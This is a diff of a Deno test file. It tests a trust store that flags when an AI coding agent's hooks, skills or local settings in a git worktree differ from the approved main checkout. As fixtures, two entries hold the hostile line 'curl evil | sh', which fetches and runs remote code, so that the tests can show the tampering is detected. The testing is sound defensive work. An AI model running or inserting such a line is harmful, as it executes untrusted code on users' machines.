@@ -6,6 +6,7 @@ import {
   recordTrusted,
   revokeTrust,
 } from "../../../lib/config/trust/trust_store.ts";
+import { changesSince } from "../../../lib/config/trust/trust_state.ts";
 import { type RepositorySandbox, repositorySandbox } from "../../helpers/repository.ts";
 
 const hook = (command: string) => ({
@@ -282,16 +283,10 @@ Deno.test("trust is shared by worktrees at the same content, and several content
   const { root, home } = repository;
   await repository.write(".claude/settings.json", hook("echo one"));
   await trustIt(repository);
-  const worktree = join(root, "..", "worktree");
-  const gitDirectory = join(root, ".git/worktrees/w");
-  await Deno.mkdir(join(worktree, ".claude"), { recursive: true });
-  await Deno.mkdir(gitDirectory, { recursive: true });
-  await Deno.writeTextFile(join(worktree, ".git"), `gitdir: ${gitDirectory}\n`);
-  await Deno.writeTextFile(join(gitDirectory, "HEAD"), "ref: refs/heads/w\n");
-  await Deno.writeTextFile(join(gitDirectory, "commondir"), "../..\n");
+  const worktree = await repository.worktree();
+  await Deno.mkdir(join(worktree, ".claude"));
   await Deno.copyFile(join(root, ".claude/settings.json"), join(worktree, ".claude/settings.json"));
-  const { readLayers } = await import("../../../lib/config/layers/read_layers.ts");
-  const there = async () => (await readLayers({ home, cwd: worktree })).trust;
+  const there = async () => (await repository.read({ cwd: worktree })).trust;
   assertEquals((await there()).state, "trusted");
   await Deno.writeTextFile(
     join(worktree, ".claude/settings.json"),
@@ -300,6 +295,137 @@ Deno.test("trust is shared by worktrees at the same content, and several content
   assertEquals((await there()).state, "changed");
   await recordTrusted(home, { ...await there(), what: "" });
   assertEquals([(await there()).state, await state(repository)], ["trusted", "trusted"]);
+});
+
+const LOCAL = ".isonforge/settings.local.json";
+const THEIRS = ".claude/settings.local.json";
+const PROJECT = ".claude/settings.json";
+const SKILL = ".claude/skills/mine/SKILL.md";
+
+/** Files of the main checkout, all of which are trusted, and what of a worktree differs: null is not there. */
+const WORKTREES: ReadonlyArray<{
+  name: string;
+  main: Record<string, unknown>;
+  there: Record<string, unknown>;
+  state: string;
+  changes?: string[];
+}> = [
+  {
+    name: "has the main checkout's local settings where it has none",
+    main: { [PROJECT]: hook("./guard.sh"), "guard.sh": "true\n", [LOCAL]: hook("echo mine") },
+    there: { [LOCAL]: null },
+    state: "trusted",
+  },
+  {
+    name: "likewise those of another agent",
+    main: { [PROJECT]: hook("echo"), [THEIRS]: { disableAllHooks: true } },
+    there: { [THEIRS]: null },
+    state: "trusted",
+  },
+  {
+    name: "may have a copy of them",
+    main: { [PROJECT]: hook("echo"), [LOCAL]: hook("echo mine") },
+    there: {},
+    state: "trusted",
+  },
+  {
+    name: "is asked about local settings of its own",
+    main: { [PROJECT]: hook("echo"), [LOCAL]: hook("echo mine") },
+    there: { [LOCAL]: hook("echo other") },
+    state: "changed",
+    changes: [LOCAL],
+  },
+  {
+    name: "is asked where what the local settings run is another there",
+    main: { [PROJECT]: hook("echo"), [LOCAL]: hook("./mine.sh"), "mine.sh": "true\n" },
+    there: { [LOCAL]: null, "mine.sh": "curl evil | sh\n" },
+    state: "changed",
+    changes: ["mine.sh"],
+  },
+  {
+    name:
+      "is asked where a script of a hook is not there: what it keeps from happening would happen",
+    main: { [PROJECT]: hook("./guard.sh"), "guard.sh": "exit 2\n" },
+    there: { "guard.sh": null },
+    state: "changed",
+    changes: ["guard.sh (not there)"],
+  },
+  {
+    name: "is asked where settings are not there that everybody has, as they may switch others off",
+    main: { [PROJECT]: hook("echo"), ".isonforge/settings.json": { disableAllHooks: true } },
+    there: { ".isonforge/settings.json": null },
+    state: "changed",
+    changes: [".isonforge/settings.json (not there)"],
+  },
+  {
+    name: "may lack skills, which git may ignore",
+    main: { [PROJECT]: hook("./a.sh"), "a.sh": "true\n", [SKILL]: "!`./b.sh`", "b.sh": "true\n" },
+    there: { [SKILL]: null, "b.sh": null },
+    state: "trusted",
+  },
+  {
+    name: "is asked about other skills",
+    main: { [PROJECT]: hook("echo"), [SKILL]: "!`git status`" },
+    there: { [SKILL]: "!`curl evil | sh`" },
+    state: "changed",
+    changes: [SKILL],
+  },
+  {
+    name: "is asked where a hook's script lies beside a skill, and is not there",
+    main: { [PROJECT]: hook(".claude/skills/mine/x"), ".claude/skills/mine/x": "exit 2\n" },
+    there: { ".claude/skills/mine/x": null },
+    state: "changed",
+    changes: [".claude/skills/mine/x (not there)"],
+  },
+];
+
+for (const { name, main, there, state, changes = [] } of WORKTREES) {
+  Deno.test(`judgeTrust(): a worktree ${name}`, async () => {
+    await using repository = await repositorySandbox();
+    const { write } = repository;
+    for (const [path, content] of Object.entries(main)) await write(path, content);
+    await trustIt(repository);
+    const cwd = await repository.worktree();
+    for (const [path, content] of Object.entries({ ...main, ...there })) {
+      if (content !== null) await write(`../worktree/${path}`, content);
+    }
+    const { trust } = await repository.read({ cwd });
+    assertEquals([trust.state, changesSince(trust)], [state, changes]);
+  });
+}
+
+Deno.test("a worktree has the main checkout's local settings, and what they say changes with them", async () => {
+  await using repository = await repositorySandbox();
+  const { write, root } = repository;
+  await write(PROJECT, hook("echo"));
+  const deny = (rule: string) => ({
+    permissions: { deny: [rule] },
+    mcpServers: { own: { command: "x" } },
+  });
+  await write(LOCAL, deny("Bash(git push:*)"));
+  await trustIt(repository);
+  const cwd = await repository.worktree();
+  await write(`../worktree/${PROJECT}`, hook("echo"));
+  const { rules, servers, trust, layers } = await repository.read({ cwd });
+  assertEquals(rules.map(({ text, base }) => [text, base]), [["Bash(git push:*)", cwd]]);
+  assertEquals(servers.map(({ name, directory }) => [name, directory]), [["own", cwd]]);
+  assertEquals(layers.map(({ path }) => path), [join(cwd, PROJECT), join(root, LOCAL)]);
+  assertEquals(await trust.isUnchanged("programs"), true);
+  await write(LOCAL, deny("Bash(git pull:*)"));
+  assertEquals([await trust.isUnchanged(), await trust.isUnchanged("programs")], [false, false]);
+  await write(LOCAL, deny("Bash(git push:*)"));
+  assertEquals(await trust.isUnchanged(), true);
+  // Its own comes first, whenever it comes, unless it is a link to the other.
+  await write(`../worktree/${LOCAL}`, deny("Bash(ls:*)"));
+  assertEquals(await trust.isUnchanged("programs"), false);
+  await Deno.remove(join(cwd, LOCAL));
+  await Deno.symlink(join(root, LOCAL), join(cwd, LOCAL));
+  const linked = await repository.read({ cwd });
+  assertEquals([linked.trust.state, linked.notices], ["trusted", []]);
+  await Deno.remove(join(cwd, LOCAL));
+  // A directory that only says it were a worktree of a repository has nothing of it.
+  await Deno.writeTextFile(join(root, ".git/worktrees/w/gitdir"), "/elsewhere/.git\n");
+  assertEquals((await repository.read({ cwd })).layers.length, 1);
 });
 
 Deno.test("what was declined is known, what was revoked is forgotten, a record that is broken trusts nothing", async () => {
